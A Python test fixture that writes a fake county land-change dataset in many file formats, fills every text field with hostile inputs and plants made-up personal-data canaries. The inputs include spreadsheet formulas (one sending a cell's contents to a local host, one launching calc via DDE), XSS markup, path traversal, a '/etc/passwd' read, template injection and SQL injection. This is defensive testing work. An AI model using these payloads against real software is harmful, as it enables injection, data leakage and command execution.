"""A county whose every text comes from someone who means harm, with canaries of personal data.

The ground is that of ``squares.py``; only what is written on it differs. What programs take for
formulas, markup, expressions, paths and controls stands in every field of every layer and ledger.
"""

import itertools
from dataclasses import dataclass, field, replace
from pathlib import Path

import numpy as np
import openpyxl
import pyogrio
import rasterio
from openpyxl.comments import Comment
from shapely import box
from shapely.affinity import translate

from tests.county import ORIGIN, approval_section, config, frame, section
from tests.squares import SQUARES

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
MARKUP = "</script><img src=x onerror=alert(1)>"
CONTROLS = "甲\x1b[31m红\u202e村\u2066乙\u2028丙"
RARE = "㙍𠮷"
TEXTS = (
    FORMULA,
    "=cmd|'/c calc'!A0",
    "＝1+1",
    "@SUM(1+1)*cmd",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "<script>alert(1)</script>",
    MARKUP,
    "'\"><svg onload=alert(1)>",
    "../../../escape",
    "a/b:c*?",
    "CON",
    "x...",
    r"$\foo$ \input{/etc/passwd}",
    '#eval("1") #read("/etc/passwd") @ref',
    "[% eval('1') %] {{7*7}} ${7*7} %s {0}",
    CONTROLS,
    RARE * 30,
    "']; DROP TABLE changes; --",
)
CHANGE_IDS = tuple(f"{text}{number:02}" for number, text in enumerate(TEXTS[:13], 1))

NAMES = [f"{family}{given}" for family in ("欧阳", "司马", "诸葛", "上官", "夏侯") for given in "骁霁翀玥"]  # fmt: skip
PHONES = [f"139{number}4444{number:04}"[:11] for number in range(1001, 1011)]
ADDRESSES = [f"临湖镇长河村{number}号" for number in range(801, 811)]
_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)


def _identity(number):
    start = f"3301021990030{number % 9 + 1}{number:03}"[:17].ljust(17, "7")
    total = sum(int(digit) * weight for digit, weight in zip(start, _WEIGHTS, strict=True))
    return start + "10X98765432"[total % 11]


IDS = [_identity(number) for number in range(441, 451)]
CANARIES = [*NAMES, *PHONES, *IDS, *ADDRESSES]


@dataclass
class Texts:
    """Hands out the hostile texts in turn."""

    turn: itertools.cycle = field(default_factory=lambda: itertools.cycle(TEXTS))

    def next(self, mark=""):
        return f"{next(self.turn)}{mark}"


def county():
    """Return the county of squares with hostile words on it."""
    texts = Texts()
    renamed = {
        row["JCBH"]: new for (_, row), new in zip(SQUARES.changes, CHANGE_IDS, strict=True)
    }
    names, phones = itertools.cycle(NAMES), itertools.cycle(PHONES)
    identities, homes = itertools.cycle(IDS), itertools.cycle(ADDRESSES)

    def change(corners, row):
        phone, identity = next(phones), next(identities)
        return corners, {
            **row,
            "JCBH": renamed[row["JCBH"]],
            "备注 =1+1 <b>": texts.next(),
            "BZ": f"经核 {phone} 可联系,{identity}",
            "联系人": next(names),
            "户主姓名": next(names),
            "联系电话": phone,
            "身份证号": identity,
            "WZ": next(homes),
            "HM": phone,  # nothing but numbers, under a name that says nothing
        }

    def approval(corners, row):
        return corners, {
            **row,
            "PZWH": texts.next(row["PZWH"]),
            "YDDW": texts.next("公司"),
            "TDYT": texts.next(),
        }

    return replace(
        SQUARES,
        changes=[change(*one) for one in SQUARES.changes],
        townships=[
            (corners, {**row, "XZQMC": text})
            for (corners, row), text in zip(
                SQUARES.townships, (FORMULA, MARKUP, f"../../{CONTROLS}{RARE}"), strict=True
            )
        ],
        land_use=[(c, {**row, "BSM": texts.next(row["BSM"])}) for c, row in SQUARES.land_use],
        plan_zones=[(c, {"GHFQ": texts.next(row["GHFQ"])}) for c, row in SQUARES.plan_zones],
        approvals={kind: [approval(*one) for one in rows] for kind, rows in SQUARES.approvals.items()},
    )  # fmt: skip


def write(folder):
    """Write the county as files of many kinds; return the config."""
    ground, raw = county(), folder / "raw"
    raw.mkdir(parents=True)
    sections = []
    for name in ("changes", "townships", "land_use", "permanent_farmland", "plan_zones"):
        layer = frame(getattr(ground, name))
        pyogrio.write_dataframe(layer, raw / f"{name}.gpkg", driver="GPKG")
        sections.append(section(name, f"raw/{name}.gpkg"))
    more = ', holder = "YDDW", land_use_purpose = "TDYT" }'
    for kind, records in ground.approvals.items():
        if kind == "conversion":
            _coordinate_texts(records, raw / "红线")
            extra = 'ledger = "raw/台账.xlsx"\nledger_key = { file = "文件名" }'
            text = approval_section(kind, "raw/红线", extra=extra)
            _ledger(records, raw / "台账.xlsx")
        else:
            path = raw / f"{kind}.geojson"
            pyogrio.write_dataframe(frame(records).to_crs("EPSG:4490"), path, driver="GeoJSON")
            text = approval_section(kind, f"raw/{kind}.geojson")
        sections.append(text.replace(" }", more, 1))
    for name in ("before", "after"):
        _image(raw / f"{name}.tif")
    _hand(folder / "hand")
    rest = '[imagery]\nbefore = "raw/before.tif"\nafter = "raw/after.tif"\n'
    path = folder / "hostile.toml"
    path.write_text(config("".join(sections), rest=rest), encoding="utf-8")
    return path


def _coordinate_texts(records, folder):
    folder.mkdir()
    for number, (corners, _) in enumerate(records):
        points = list(translate(box(*corners), *ORIGIN).exterior.coords)
        lines = [
            "[属性描述]", f"数据产生单位={NAMES[number]}", f"联系人={NAMES[number]} {PHONES[number]}",
            "坐标系=2000国家大地坐标系", "几度分带=3", "投影类型=高斯克吕格",
            "计量单位=米", "带号=40", "精度=0.001", "转换参数=,,,,,,", "[地块坐标]",
            f"{len(points)},0.3,{number + 1},{NAMES[number]},面,,{ADDRESSES[number]},,@",
        ]  # fmt: skip
        lines += [f"J{i % 4 + 1},1,{y:.3f},40{x:.3f}" for i, (x, y) in enumerate(points)]
        (folder / f"红线{number}.txt").write_text("\r\n".join(lines), encoding="gb18030")


def _ledger(records, path):
    book = openpyxl.Workbook()
    book.properties.creator, book.properties.description = NAMES[0], PHONES[0]
    sheet = book.active
    sheet.append(["文件名", "PZWH", "PZRQ", "YXQZ", "YDDW", "TDYT", "联系人", "手机", "住址"])
    for n, (_, row) in enumerate(records):
        words = [row[name] for name in ("PZWH", "PZRQ", "YXQZ", "YDDW", "TDYT")]
        words = [_cell(word) for word in words]
        sheet.append([f"红线{n}.txt", *words, NAMES[n], PHONES[n], ADDRESSES[n]])
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
    sheet["A2"].comment = Comment(f"{NAMES[1]} {PHONES[1]} {IDS[1]}", NAMES[2])
    hidden = book.create_sheet("联系表")
    hidden.sheet_state = "hidden"
    hidden.append(["姓名", "身份证"])
    for name, identity in zip(NAMES, IDS, strict=False):
        hidden.append([name, identity])
    book.save(path)


def _cell(word):
    """Return a text without the controls that XML cannot hold."""
    return None if word is None else "".join(c for c in word if c.isprintable() or c > "\x9f")


def _image(path):
    west, north = ORIGIN[0], ORIGIN[1] + 1000
    with rasterio.open(
        path, "w", driver="GTiff", width=300, height=100, count=3, dtype="uint8",
        crs="EPSG:4549", transform=rasterio.Affine(10, 0, west, 0, -10, north),
    ) as picture:  # fmt: skip
        picture.write(np.random.default_rng(1).integers(0, 255, (3, 100, 300), dtype=np.uint8))
        picture.update_tags(
            TIFFTAG_ARTIST=f"{NAMES[3]} {PHONES[3]}", TIFFTAG_IMAGEDESCRIPTION=ADDRESSES[3]
        )


def _hand(folder):
    folder.mkdir()
    texts = Texts()
    head = "change_id,township_code,verdict,reason,ruled_by,ruled_on,联系电话,住址\n"
    rows = [
        [CHANGE_IDS[8], "", "illegal", f"{texts.next()},来电{PHONES[4]},证件{IDS[4]}", texts.next("签")],
        [CHANGE_IDS[3], "", "legal", texts.next("已补"), texts.next("签")],
    ]  # fmt: skip
    lines = [[*row, "2025-01-05", PHONES[5], ADDRESSES[5]] for row in rows]
    _csv(folder / "rulings.csv", head, lines)
    head = "change_id,township_code,method,farmland_m2,accepted_on,document,验收人电话\n"
    lines = [
        [CHANGE_IDS[10], "", "拆除复耕", "400", "2025-03-31", texts.next("验1号"), PHONES[6]],
        [CHANGE_IDS[10], "", texts.next(), "4", "2025-03-31", f"{texts.next()} {PHONES[7]}", PHONES[7]],
    ]  # fmt: skip
    _csv(folder / "rectifications.csv", head, lines)
    head = "township_code,office_name,township_head,office_head,电话\n"
    lines = [
        ["990101001", FORMULA + "一所", NAMES[8], NAMES[9], PHONES[8]],
        ["990101002", MARKUP + "二所", NAMES[10], NAMES[11], PHONES[9]],
    ]
    _csv(folder / "offices.csv", head, lines)


def _csv(path: Path, head, rows):
    quoted = (",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    path.write_text(head + "\n".join(quoted) + "\n", encoding="utf-8-sig")
